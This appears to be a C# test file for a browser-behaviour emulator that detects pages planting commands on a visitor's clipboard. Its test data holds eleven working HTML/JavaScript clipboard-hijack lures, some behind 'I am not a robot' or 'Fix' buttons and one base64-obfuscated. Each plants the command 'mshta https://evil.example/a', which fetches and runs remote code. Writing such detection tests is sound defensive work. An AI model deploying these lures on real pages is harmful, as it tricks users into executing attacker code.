using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.JavaScript;

public sealed class ClipboardTests
{
    private const string Command = "mshta https://evil.example/a";

    public static TheoryData<string> Ways =>
    [
        $"<button onclick=\"navigator.clipboard.writeText('{Command}')\">I am not a robot</button>",
        $"<button id=b>Copy</button><script>b.onclick=()=>navigator.clipboard.write([new ClipboardItem({{'text/plain':new Blob(['{Command}'],{{type:'text/plain'}})}})])</script>",
        $"<button id=b>Copy</button><script>b.onclick=()=>navigator.clipboard.write([new ClipboardItem({{'text/plain':Promise.resolve(new Blob(['{Command}']))}})])</script>",
        $"<button id=b>Copy</button><script>b.onclick=()=>navigator.clipboard.write([new ClipboardItem({{'text/plain':Promise.resolve('{Command}')}})])</script>",
        $"<textarea id=t></textarea><button id=b>Copy</button><script>b.onclick=function(){{t.value=['mshta','https://evil.example/a'].join(' ');t.select();document.execCommand('copy')}}</script>",
        $"<button id=b>Fix</button><script>b.onclick=function(){{var e=document.createElement('textarea');e.value=atob('{Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(Command))}');document.body.appendChild(e);e.select();e.setSelectionRange(0,999);document.execCommand('copy');e.remove()}}</script>",
        $"<pre id=c>{Command}</pre><button id=b>Copy</button><script>b.onclick=function(){{var r=document.createRange();r.selectNodeContents(c);var s=getSelection();s.removeAllRanges();s.addRange(r);document.execCommand('copy')}}</script>",
        $"<pre id=c>{Command}</pre><button id=b>Copy</button><script>b.onclick=function(){{getSelection().selectAllChildren(c);document.execCommand('Copy')}}</script>",
        $"<script>document.addEventListener('copy',e=>{{e.clipboardData.setData('text/plain','{Command}');e.preventDefault()}})</script>",
        $"<button id=b>Copy</button><script>b.onclick=function(){{document.addEventListener('copy',function(e){{e.clipboardData.setData('text/plain','{Command}');e.preventDefault()}},{{once:true}});document.execCommand('copy')}}</script>",
        $"<body oncopy=\"event.clipboardData.setData('Text','{Command}')\"><p>Select the text</p></body>",
    ];

    [Theory]
    [MemberData(nameof(Ways))]
    public void A_command_put_on_the_clipboard_is_seen(string html)
    {
        var log = Emulated.Page(html);
        Assert.True(log.Behaviours.Any(seen => seen.Kind == BehaviourKind.PasteCommand && seen.Value == Command), log.Told());
    }

    [Fact]
    public void What_the_command_would_do_is_run_next()
    {
        Assert.Equal((ScriptLanguage.Batch, Command), Emulated.Page(Ways.First()).Layers.Select(layer => (layer.Language, layer.Source)).Single());
    }

    [Theory]
    [InlineData("pip install platform-client")]
    [InlineData("git clone https://git.partner.example/report.git")]
    [InlineData("https://partner.example/reports/2026/11")]
    [InlineData("name\\tvalue\\n1\\t2")]
    [InlineData("npm ci && npm run build")]
    public void A_button_that_copies_what_manuals_tell_says_nothing(string text)
    {
        Assert.Empty(Emulated.Page($"<button onclick=\"navigator.clipboard.writeText('{text}')\">Copy</button>").Behaviours);
    }
}
